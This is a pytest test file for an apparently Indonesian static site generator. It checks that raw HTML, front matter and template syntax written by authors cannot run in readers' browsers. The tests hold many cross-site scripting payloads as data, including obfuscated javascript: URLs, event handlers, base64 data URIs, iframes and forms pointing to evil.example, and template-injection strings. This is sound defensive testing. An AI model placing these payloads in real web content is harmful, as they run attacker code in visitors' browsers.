"""Readers are safe from what writers type: raw HTML is sanitised, front matter is escaped,
template syntax in content stays text. Every page and feed is parsed, never grepped."""

from __future__ import annotations

import html
import json
import re
from pathlib import Path
from xml.etree import ElementTree

import feedparser
import lxml.etree
import pytest
from conftest import MINIMAL_CONFIG, article, build_site, parse_html, stray_scripts, write_files

from kimpress.config.site import load_config
from kimpress.core.errors import ConfigError
from kimpress.incremental.memory import BuildMemory, CachingRenderer
from kimpress.markdown.convert import MarkdownRenderer, removal_warnings

ALLOW = MINIMAL_CONFIG + "markdown:\n  raw_html: allow\n"
ARTICLE = "content/satimpo/2018-11-12-a.md"
YOUTUBE = re.compile(r"https://www\.youtube(-nocookie)?\.com/embed/[\w-]+(\?.*)?")
BAD_SCHEME = re.compile(r"^(javascript|vbscript|data):")
ALIGN = {"text-align: left;", "text-align: center;", "text-align: right;"}
UNSAFE_TAGS = {"script", "style", "object", "embed", "form", "input", "button", "base", "meta", "link", "svg",
               "math", "textarea", "frame", "frameset"}


def body_of(page: Path) -> ElementTree.Element:
    """The ``.article-body`` of a built page."""
    [body] = [el for el in parse_html(page).iter("div") if el.get("class") == "article-body"]
    return body


def build_body(make_site, body: str, config: str = MINIMAL_CONFIG) -> ElementTree.Element:
    site = make_site({ARTICLE: article("A", body=body)}, config=config)
    build_site(site)
    return body_of(site / "output/satimpo/a/index.html")


def scheme(url: str) -> str:
    """The URL as a browser reads its scheme: outer spaces and controls stripped, tabs and newlines dropped."""
    return re.sub(r"[\t\n\r]", "", url.strip("\x00\x01\x02\x03\x04\x05\x06\x07\x08\t\n\x0b\x0c\r\x0e\x0f"
                                             "\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f ")).lower()


def unsafe(body: ElementTree.Element) -> list[str]:
    """Everything in ``body`` that could run code, load another page inside it, or restyle the site."""
    found = []
    for element in body.iter():
        tag = element.tag.rpartition("}")[2] if isinstance(element.tag, str) else ""  # SVG and MathML: namespaced
        if tag in UNSAFE_TAGS:
            found.append(f"<{tag}>")
        for name, value in element.attrib.items():
            name = name.rpartition("}")[2]
            if name.startswith("on") or name in ("srcdoc", "formaction", "action"):
                found.append(f"<{tag} {name}>")
            elif name == "style" and not (tag in ("th", "td") and value in ALIGN):
                found.append(f"<{tag} style={value!r}>")
            elif name in ("href", "src", "cite") and BAD_SCHEME.match(scheme(value)):
                found.append(f"<{tag} {name}={value!r}>")
        if tag == "iframe" and element.get("src") is not None and not YOUTUBE.fullmatch(element.get("src")):
            found.append(f"<iframe src={element.get('src')!r}>")
    return found


DANGEROUS = {
    "script": '<script>alert("s1")</script>\n\nTeks.',
    "script-src": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script-inline": 'Teks <script>alert("s1")</script> lagi.',
    "event-handler": '<img src="foto.jpg" onerror="alert(1)" onload="alert(2)">',
    "event-handler-markdown": 'Paragraf\n{: onclick="alert(1)" }',
    "javascript-href": '<a href="javascript:alert(1)">klik</a>',
    "javascript-markdown": "[klik](javascript:alert(1))",
    "javascript-mixed-case": '<a href="JaVaScRiPt:alert(1)">klik</a>',
    "javascript-tab": '<a href="java&#x09;script:alert(1)">klik</a>',
    "javascript-entity": '<a href="&#106;avascript:alert(1)">klik</a>',
    "javascript-leading-space": '<a href=" &#x0a; javascript:alert(1)">klik</a>',
    "javascript-img": '<img src="javascript:alert(1)">',
    "data-href": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">klik</a>',
    "data-img-markdown": "![gambar](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "vbscript": '<a href="vbscript:msgbox(1)">klik</a>',
    "iframe-other-site": '<iframe src="https://evil.example/"></iframe>',
    "iframe-lookalike": '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "iframe-javascript": '<iframe src="javascript:alert(1)"></iframe>',
    "style-attribute": '<p style="background:url(javascript:alert(1))">gaya</p>',
    "style-expression": '<div style="width: expression(alert(1))">gaya</div>',
    "style-markdown": 'Paragraf\n{: style="position:fixed;top:0" }',
    "style-on-cell": '<table><tr><td style="background:url(https://evil.example/x)">sel</td></tr></table>',
    "style-element": "<style>body { display: none }</style>",
    "svg": "<svg onload=alert(1)><circle r=10 /></svg>",
    "math": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "form": '<form action="https://evil.example/"><input name="pin"><button formaction="javascript:alert(1)">'
            "Kirim</button></form>",
    "object-embed": '<object data="x.swf"></object><embed src="x.swf">',
    "base-meta-link": '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">'
                      '<link rel="stylesheet" href="https://evil.example/x.css">',
}


@pytest.mark.parametrize("snippet", DANGEROUS.values(), ids=DANGEROUS.keys())
def test_dangerous_html_is_removed_unless_allowed(make_site, snippet):
    assert unsafe(build_body(make_site, snippet, ALLOW)), "raw_html: allow keeps it, so the check can see it"
    assert unsafe(build_body(make_site, snippet)) == []


def test_script_content_is_dropped_not_shown_as_text(make_site):
    body = build_body(make_site, '<script>alert("tersembunyi")</script>\n\n<style>p{}</style>\n\nTeks.')
    assert "".join(body.itertext()).split() == ["Teks."]


@pytest.mark.parametrize("config", [MINIMAL_CONFIG, ALLOW], ids=["sanitize", "allow"])
def test_summary_from_a_paragraph_with_raw_html_is_its_visible_text(make_site, config):
    site = make_site({ARTICLE: article("A", body="Warga <b>kerja</b> bakti <script>rahasia()</script>di RT 5.")},
                     config=config)
    build_site(site)
    meta = {el.get("name"): el.get("content") for el in parse_html(site / "output/satimpo/a/index.html").iter("meta")}
    assert meta["description"] == "Warga kerja bakti di RT 5."
    items = json.loads((site / "output/feed.json").read_text(encoding="utf-8"))["items"]
    assert items[0]["summary"] == "Warga kerja bakti di RT 5."


def test_harmless_raw_html_is_kept(make_site):
    body = build_body(make_site, '<figure><img src="foto.jpg" alt="Foto" width="300"><figcaption>Kerja '
                                 '<mark>bakti</mark> H<sub>2</sub>O</figcaption></figure>\n\n'
                                 '<details><summary>Lihat</summary><p><a href="https://contoh.id/" target="_blank" '
                                 'title="Contoh">tautan</a></p></details>')
    assert [el.tag for el in body.iter()][1:] == ["figure", "img", "figcaption", "mark", "sub", "details", "summary",
                                                  "p", "a"]
    assert dict(body.find(".//img").attrib) == {"src": "foto.jpg", "alt": "Foto", "width": "300"}
    assert dict(body.find(".//a").attrib) == {"href": "https://contoh.id/", "target": "_blank", "title": "Contoh"}


@pytest.mark.parametrize("src", ["https://www.youtube.com/embed/dQw4w9WgXcQ?si=abc&start=30",
                                 "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"])
def test_youtube_embeds_are_kept(make_site, src):
    body = build_body(make_site, f'<iframe width="560" height="315" src="{src.replace("&", "&amp;")}" '
                                 'title="YouTube video player" frameborder="0" allow="autoplay; encrypted-media" '
                                 'referrerpolicy="strict-origin-when-cross-origin" allowfullscreen></iframe>')
    [frame] = body.iter("iframe")
    assert frame.get("src") == src
    assert {"width", "height", "title", "allow", "allowfullscreen"} <= set(frame.attrib)


SAFE_MARKDOWN = """\
[TOC]

## Rapat *warga* {: #rapat .penting }

Catatan kaki[^1], singkatan HTML, [artikel B](../loktuan/2018-11-13-b.md "Judul B"), \
[luar](https://contoh.id/x?a=1&b=2), <https://otomatis.id>, <surat@contoh.id>, `kode` dan \
![foto](2018-11-12-a/foto.png "Foto kegiatan"){: width="320" }.

| Kiri | Tengah | Kanan |
|:-----|:------:|------:|
| a    | b      | c     |

```python
print("halo")
```

Istilah
:   Definisinya.

> Kutipan

3. tiga
4. empat

---

Paragraf berkelas
{: .catatan #p-kelas }

*[HTML]: Hyper Text Markup Language
[^1]: Isi catatan.
"""


def canonical(element: ElementTree.Element) -> bytes:
    return ElementTree.tostring(element)


def test_markdown_output_survives_sanitising_untouched(make_site, tmp_path):
    files = {ARTICLE: article("A", body=SAFE_MARKDOWN),
             "content/satimpo/2018-11-12-a/foto.png": b"\x89PNG\r\n\x1a\n",
             "content/loktuan/2018-11-13-b.md": article("B", "2018-11-13")}
    site = make_site(files)
    build_site(site)
    body = body_of(site / "output/satimpo/a/index.html")
    trusted = make_site(files, config=ALLOW)  # the same folder, rebuilt with sanitising off
    build_site(trusted)
    assert canonical(body) == canonical(body_of(trusted / "output/satimpo/a/index.html"))

    heading = body.find(".//h2")
    assert (heading.get("id"), heading.get("class")) == ("rapat", "penting")
    assert body.find(".//div[@class='toc']//a").get("href") == "#rapat"
    ref = body.find(".//sup[@id='fnref:1']/a")
    assert (ref.get("class"), ref.get("href")) == ("footnote-ref", "#fn:1")
    note = body.find(".//div[@class='footnote']/ol/li[@id='fn:1']")
    backref = note.find(".//a[@class='footnote-backref']")
    assert (backref.get("href"), backref.get("title")) == ("#fnref:1", "Kembali ke teks")
    assert body.find(".//abbr").get("title") == "Hyper Text Markup Language"
    links = {a.text: a for a in body.iter("a")}
    assert (links["artikel B"].get("href"), links["artikel B"].get("title")) == ("/kim/loktuan/b/", "Judul B")
    assert links["luar"].get("href") == "https://contoh.id/x?a=1&b=2"
    assert links["surat@contoh.id"].get("href") == "mailto:surat@contoh.id"
    assert links["https://otomatis.id"].get("href") == "https://otomatis.id"
    image = body.find(".//p/img")
    assert dict(image.attrib) == {"alt": "foto", "src": "/kim/satimpo/a/foto.png", "title": "Foto kegiatan",
                                  "width": "320"}
    assert [cell.get("style") for cell in body.iter("th")] == [
        "text-align: left;", "text-align: center;", "text-align: right;"]
    assert body.find(".//pre/code").get("class") == "language-python"
    assert [el.tag for el in body.find(".//dl")] == ["dt", "dd"]
    assert body.find(".//ol[@start='3']") is not None
    assert body.find(".//blockquote/p").text == "Kutipan"
    styled = body.find(".//p[@id='p-kelas']")
    assert styled is not None and styled.get("class") == "catatan"


def test_allow_keeps_raw_html_as_written(make_site):
    body = build_body(make_site, '<div onclick="bilang()" style="color: red">x</div>\n\n<script>var a = 1;</script>',
                      ALLOW)
    div = body.find(".//div")
    assert (div.get("onclick"), div.get("style")) == ("bilang()", "color: red")
    assert body.find(".//script").text == "var a = 1;"


def test_removed_markup_is_reported_with_its_line():
    text = "Pembuka.\n\nTeks <b onclick=\"x()\">tebal</b>.\n\n<script>x()</script>\n\n[a](javascript:x())\n" \
           "\nParagraf\n{: style=\"color:red\" }\n\n<iframe src=\"https://evil.example/\"></iframe>\n\n<script>y</script>\n"
    removed = MarkdownRenderer().render(text).removed
    assert sorted(((item.tag, item.attribute, item.line) for item in removed), key=lambda item: item[2]) == [
        ("b", "onclick", 3), ("script", None, 5), ("a", "href", 7), ("p", "style", 10), ("iframe", "src", 12)]
    warnings = removal_warnings("content/satimpo/a.md", 6, tuple(sorted(removed, key=lambda item: item.line)))
    assert [(w.code, w.path, w.line, w.is_error) for w in warnings] == [
        ("html-attribute-removed", "content/satimpo/a.md", 8, False),
        ("html-tag-and-content-removed", "content/satimpo/a.md", 10, False),
        ("html-address-removed", "content/satimpo/a.md", 12, False),
        ("html-attribute-removed", "content/satimpo/a.md", 15, False),
        ("html-frame-removed", "content/satimpo/a.md", 17, False)]
    assert [w.param_dict for w in warnings] == [
        {"attribute": "onclick", "tag": "<b>"}, {"tag": "<script>"},
        {"attribute": "href", "tag": "<a>", "scheme": "javascript:"}, {"attribute": "style", "tag": "<p>"},
        {"host": "evil.example"}]


def test_markdown_alone_reports_nothing_removed():
    assert MarkdownRenderer().render(SAFE_MARKDOWN).removed == ()
    assert MarkdownRenderer(sanitize=False).render("<script>x()</script>").removed == ()


def test_cached_html_follows_the_setting(make_site, tmp_path):
    site = make_site({ARTICLE: article("A", body="<script>x()</script>\n\nTeks.")})
    cache = tmp_path / "build.pickle"

    def scripts() -> int:
        build_site(site, cache_file=cache)
        return len(list(body_of(site / "output/satimpo/a/index.html").iter("script")))

    assert scripts() == 0
    (site / "site.yaml").write_text(ALLOW, encoding="utf-8")
    assert scripts() == 1
    (site / "site.yaml").write_text(MINIMAL_CONFIG, encoding="utf-8")
    assert scripts() == 0


def test_caching_renderer_keys_on_the_setting():
    memory = BuildMemory()
    text = '<p onclick="x()">Teks</p>'
    assert "onclick" not in CachingRenderer(memory, "id", True).render(text).html
    assert "onclick" in CachingRenderer(memory, "id", False).render(text).html
    assert "onclick" not in CachingRenderer(memory, "id", True).render(text).html


def test_raw_html_setting_is_validated(make_site):
    assert load_config(make_site())[0].markdown.raw_html == "sanitize"
    assert load_config(make_site(config=ALLOW))[0].markdown.raw_html == "allow"
    with pytest.raises(ConfigError) as caught:
        load_config(make_site(config=MINIMAL_CONFIG + "markdown:\n  raw_html: alow\n"))
    [problem] = caught.value.diagnostics
    assert (problem.code, problem.line, problem.param_dict["value"], problem.param_dict["suggestion"]) == (
        "not-a-choice", 5, "alow", "allow")
    with pytest.raises(ConfigError) as caught:
        load_config(make_site(config=MINIMAL_CONFIG + "markdown:\n  rawhtml: allow\n"))
    [problem] = caught.value.diagnostics
    assert (problem.code, problem.param_dict["setting"]) == ("unknown-markdown-setting", "rawhtml")


JINJA = '{{ 7*7 }} {% include "base.html" %} {{ config.title }}'


def texts_and_attributes(page: Path) -> list[str]:
    """Every text and attribute value of a page; structured data counts by the strings its JSON holds."""
    tree = parse_html(page)
    found = []
    for el in tree.iter():
        if el.tag == "script" and el.get("type") == "application/ld+json":
            found += json_strings(json.loads(el.text))
            found.append(el.tail or "")
            continue
        found += [*el.attrib.values(), el.text or "", el.tail or ""]
    return found


def json_strings(data) -> list[str]:
    if isinstance(data, str):
        return [data]
    if isinstance(data, dict):
        return [text for value in data.values() for text in json_strings(value)]
    if isinstance(data, list):
        return [text for value in data for text in json_strings(value)]
    return []


def test_template_syntax_in_content_stays_text(make_site):
    site = make_site({
        "content/satimpo/_index.md": f"---\nname: Satimpo\n---\nProfil {JINJA}\n",
        ARTICLE: article(f"'Judul {JINJA}'", summary=f"'Ringkas {JINJA}'", body=f"Isi {JINJA}\n\n    {JINJA}\n"),
        "content/tentang.md": f"---\ntitle: Tentang\n---\nHalaman {JINJA}\n",
    })
    build_site(site)
    out = site / "output"
    for page, prefixes in (("satimpo/a/index.html", ["Judul", "Ringkas", "Isi", ""]),
                           ("satimpo/index.html", ["Profil", "Judul"]), ("tentang/index.html", ["Halaman"])):
        found = texts_and_attributes(out / page)
        for prefix in prefixes:
            assert any(f"{prefix} {JINJA}".strip() in text for text in found), (page, prefix)
        assert not any("49" in text for text in found), page
    assert len(list(parse_html(out / "satimpo/a/index.html").iter("header"))) == 2  # site header, article header


EVIL = "</script><script>alert(1)</script> \"kutip\" 'tunggal' & <b>tebal</b> {{ 7*7 }}"


def yaml_quoted(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


def test_front_matter_is_escaped_in_every_page_and_feed(make_site):
    site = make_site({
        "content/satimpo/_index.md": f"---\nname: {yaml_quoted('Satimpo ' + EVIL)}\nkim: {yaml_quoted('KIM ' + EVIL)}\n---\n",
        ARTICLE: article(yaml_quoted("Judul " + EVIL), author=yaml_quoted("Rina " + EVIL),
                         tags=f"[{yaml_quoted('tag ' + EVIL)}]", category=yaml_quoted("Rubrik " + EVIL),
                         summary=yaml_quoted("Ringkas " + EVIL), cover="foto.png",
                         cover_alt=yaml_quoted("Foto " + EVIL)),
        "content/satimpo/2018-11-12-a/foto.png": b"\x89PNG\r\n\x1a\n",
        "content/satimpo/2018-11-13-b.md": article("B", "2018-11-13"),
        "content/tentang.md": f"---\ntitle: {yaml_quoted('Tentang ' + EVIL)}\n---\nHalo.\n",
    })
    build_site(site)
    out = site / "output"
    pages = sorted(out.rglob("*.html"))
    assert len(pages) > 15
    for page in pages:
        tree = parse_html(page)
        assert not stray_scripts(tree) and tree.find(".//b") is None, page
        if page.parent.name == "whatsapp":  # WhatsApp's bold titles drop the marks (the * of 7*7) that would end them
            continue
        for text in texts_and_attributes(page):
            assert "alert(1)" not in text or EVIL in text, (page, text)  # never a piece of it: all or nothing

    tree = parse_html(out / "satimpo/a/index.html")
    meta = {el.get("property") or el.get("name"): el.get("content") for el in tree.iter("meta")}
    assert tree.find(".//title").text == f"Judul {EVIL} · Kabar Uji"
    assert meta["og:title"] == f"Judul {EVIL} · Kabar Uji"
    assert meta["description"] == meta["og:description"] == f"Ringkas {EVIL}"
    assert "".join(tree.find(".//h1").itertext()) == f"Judul {EVIL}"
    assert tree.find(".//figure/img").get("alt") == f"Foto {EVIL}"
    shown = {"".join(a.itertext()) for a in tree.iter("a")}
    assert {f"Rina {EVIL}", f"#tag {EVIL}", f"Rubrik {EVIL}", f"Tentang {EVIL}", "B →"} <= shown
    home = {"".join(a.itertext()) for a in parse_html(out / "index.html").iter("a")}
    assert f"Judul {EVIL}" in home

    rss = lxml.etree.parse(str(out / "feed.xml"))
    titles = [item.findtext("title") for item in rss.iter("item")]
    assert f"Judul {EVIL}" in titles
    # An RSS description is HTML to readers: the summary is escaped in it, and shows as typed.
    assert f"Ringkas {EVIL}" in [html.unescape(item.findtext("description")) for item in rss.iter("item")]
    atom = feedparser.parse((out / "satimpo/atom.xml").read_bytes())
    assert not atom.bozo
    assert feedparser.parse((out / "satimpo/feed.xml").read_bytes()).feed.title == f"Kabar Uji: Kelurahan Satimpo {EVIL}"
    atom_tree = lxml.etree.parse(str(out / "satimpo/atom.xml"))
    ns = {"a": "http://www.w3.org/2005/Atom"}
    assert f"Judul {EVIL}" in atom_tree.xpath("//a:entry/a:title/text()", namespaces=ns)
    assert f"Rina {EVIL}" in atom_tree.xpath("//a:entry/a:author/a:name/text()", namespaces=ns)
    items = json.loads((out / "feed.json").read_text(encoding="utf-8"))["items"]
    assert f"Judul {EVIL}" in [item["title"] for item in items]
    assert {"name": f"Rina {EVIL}"} in [author for item in items for author in item.get("authors", [])]
    opml = lxml.etree.parse(str(out / "langganan/kelurahan.opml"))
    assert f"Kabar Uji: Kelurahan Satimpo {EVIL}" in opml.xpath("//outline/@text")
    lxml.etree.parse(str(out / "sitemap.xml"))  # well-formed whatever the titles hold



def test_a_build_warns_at_the_line_where_html_was_removed(make_site):
    body = "Paragraf pertama.\n\nKlik <a href=\"javascript:alert(1)\" onclick=\"x()\">di sini</a>.\n"
    site = make_site({"content/satimpo/2018-11-12-a.md": article("A", body=body)})
    result = build_site(site)
    removed = [d for d in result.warnings if d.code.startswith("html-")]
    assert {d.code for d in removed} == {"html-address-removed", "html-attribute-removed"}
    assert removed and all(d.path == "content/satimpo/2018-11-12-a.md" and not d.is_error for d in removed)
    assert {d.line for d in removed} == {7}  # the body starts on line 5, after the closing fence


def test_the_removed_frame_is_named_by_its_own_host_and_line_not_its_allowed_twin():
    text = ('<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>\n\n'
            'Teks.\n\n<iframe src="https://evil.example/x"></iframe>\n')
    [removed] = MarkdownRenderer().render(text).removed
    assert (removed.tag, removed.attribute, removed.value, removed.line) == ("iframe", "src", "https://evil.example/x", 5)
    [problem] = removal_warnings("content/satimpo/a.md", 6, (removed,))
    assert (problem.code, problem.line, problem.param_dict) == ("html-frame-removed", 10, {"host": "evil.example"})


def test_the_border_style_of_pasted_embed_code_is_kept_without_a_warning():
    maps = ('<iframe src="https://www.google.com/maps/embed?pb=!1m18" width="600" height="450" '
            'style="border:0;" allowfullscreen="" loading="lazy" referrerpolicy="no-referrer-when-downgrade"></iframe>')
    rendered = MarkdownRenderer().render(maps + "\n")
    assert rendered.removed == ()
    assert 'src="https://www.google.com/maps/embed?pb=!1m18"' in rendered.html


# Removal is decided without parsing the HTML again unless something may have gone; each of these hides a real
# removal from a shortcut that would trust allowed tag names, quotes, lower case or one-line tags. The snippet is on
# line 7: the body starts on line 5, after the closing fence, with "Pembuka." and a blank line.
ONCLICK = ("html-attribute-removed", {"attribute": "onclick", "tag": "<b>"})
JAVASCRIPT = ("html-address-removed", {"attribute": "href", "tag": "<a>", "scheme": "javascript:"})
SCRIPT = ("html-tag-and-content-removed", {"tag": "<script>"})
HIDDEN_REMOVALS = {
    "onclick": ('Teks <b onclick="x()">tebal</b>.', [(7, ONCLICK)]),
    "javascript-href": ('Klik <a href="javascript:alert(1)">di sini</a>.', [(7, JAVASCRIPT)]),
    "script": ("<script>x()</script>", [(7, SCRIPT)]),
    "uppercase-script": ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", [(7, SCRIPT)]),
    "style-on-cell": ('<table><tr><td style="color: red">sel</td></tr></table>',
                      [(7, ("html-attribute-removed", {"attribute": "style", "tag": "<td>"}))]),
    "alignment-and-more": ('<table><tr><th style="text-align: left; color: red">sel</th></tr></table>',
                           [(7, ("html-attribute-removed", {"attribute": "style", "tag": "<th>"}))]),
    "frame-elsewhere": ('<iframe src="https://evil.example/peta"></iframe>', [(7, ("html-frame-removed",
                                                                                {"host": "evil.example"}))]),
    "frame-beside-an-allowed-one": (('<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>\n\n'
                                     '<iframe src="https://evil.example/x"></iframe>'),
                                    [(9, ("html-frame-removed", {"host": "evil.example"}))]),
    "unquoted": ("<a href=javascript:alert(1) onclick=x()>klik</a>",
                 [(7, ("html-attribute-removed", {"attribute": "onclick", "tag": "<a>"})), (7, JAVASCRIPT)]),
    "repeated-attribute": ('<b class="a" CLASS="b" onclick=x()>tebal</b>', [(7, ONCLICK)]),
    "split-inline-tag": ('Teks <b\n  onclick="x()">tebal</b> lagi.', [(8, ONCLICK)]),
    "split-block-tag": ('<img src="foto.jpg"\n     onerror="alert(1)">',
                        [(8, ("html-attribute-removed", {"attribute": "onerror", "tag": "<img>"}))]),
    "cell-outside-a-table": ("Teks <td>sel</td> lepas.", [(7, ("html-tag-removed", {"tag": "<td>"}))]),
    "beside-footnotes": ('Teks[^1] <b onclick="x()">tebal</b>.\n\n[^1]: Catatan.', [(7, ONCLICK)]),
}


def html_removals(make_site, snippet: str) -> list[tuple[str, int | None, dict]]:
    site = make_site({"content/satimpo/2018-11-12-a.md": article("A", body=f"Pembuka.\n\n{snippet}")})
    result = build_site(site)
    removed = [d for d in result.warnings if d.code.startswith("html-")]
    assert all(d.path == "content/satimpo/2018-11-12-a.md" and not d.is_error for d in removed)
    return [(d.code, d.line, d.param_dict) for d in removed]


@pytest.mark.parametrize("snippet, expected", HIDDEN_REMOVALS.values(), ids=HIDDEN_REMOVALS.keys())
def test_every_removal_is_warned_about_however_it_is_written(make_site, snippet, expected):
    assert html_removals(make_site, snippet) == [(code, line, params) for line, (code, params) in expected]


KEPT_AS_WRITTEN = {
    "unquoted-and-self-closed": "<img src=foto.jpg alt=Foto width=300 />\n<br/>\n<p class=catatan>Teks &amp; "
                                "<mark>tanda</mark></p>",
    "youtube-embed": '<iframe width=560 height=315 src="https://www.youtube.com/embed/dQw4w9WgXcQ" allowfullscreen>'
                     "</iframe>",
    "footnotes": "Teks[^1] dan *miring*.\n\n[^1]: Catatan.",
    "comment": "<!-- <script>x()</script> -->Teks",
}


@pytest.mark.parametrize("snippet", KEPT_AS_WRITTEN.values(), ids=KEPT_AS_WRITTEN.keys())
def test_markup_the_sanitiser_only_rewrites_is_not_warned_about(make_site, snippet):
    assert html_removals(make_site, snippet) == []


def test_markdown_and_harmless_raw_html_are_not_parsed_again(monkeypatch):
    def parse(html: str) -> None:
        raise AssertionError(f"parsed again: {html[:80]!r}")

    monkeypatch.setattr("kimpress.markdown.sanitize._markup", parse)
    renderer = MarkdownRenderer()
    assert renderer.render(SAFE_MARKDOWN).removed == ()  # footnotes: nh3 rewrites their &#160;, so it is checked
    assert renderer.render(KEPT_AS_WRITTEN["unquoted-and-self-closed"]).removed == ()
    with pytest.raises(AssertionError, match="parsed again"):
        renderer.render('<b onclick="x()">tebal</b>')


@pytest.mark.parametrize("body", [
    '<iframe src="https://www.youtube.com/embed/abc"><![foo[</iframe>',
    "Teks <![foo[ di tengah <b>tebal</b>.",
    "<div><![bar[ x ]]></div>",
])
def test_a_marked_section_python_does_not_know_is_a_warning_not_a_crash(tmp_path: Path, body: str) -> None:
    """Python 3.11's html.parser raises AssertionError on ``<![foo[``: the writer gets a build, not an internal error."""
    write_files(tmp_path, {"site.yaml": MINIMAL_CONFIG, "content/loktuan/aneh.md": article("Aneh", body=body)})
    result = build_site(tmp_path)
    assert (tmp_path / "output/loktuan/aneh/index.html").is_file()
    assert all(d.code != "internal-error" for d in result.warnings)


@pytest.mark.parametrize("body", ["<kata[> lalu teks", "<kata**> teks", "<a(b> x", "<x+y onclick=z>"])
def test_a_tag_name_with_regex_characters_is_located_not_a_crash(tmp_path: Path, body: str) -> None:
    """html.parser reads ``<kata[>`` as a tag named ``kata[``; finding its line must not compile it as a pattern."""
    write_files(tmp_path, {"site.yaml": MINIMAL_CONFIG, "content/loktuan/aneh.md": article("Aneh", body=body)})
    result = build_site(tmp_path)
    assert (tmp_path / "output/loktuan/aneh/index.html").is_file()
    assert all(d.code != "internal-error" for d in result.warnings)
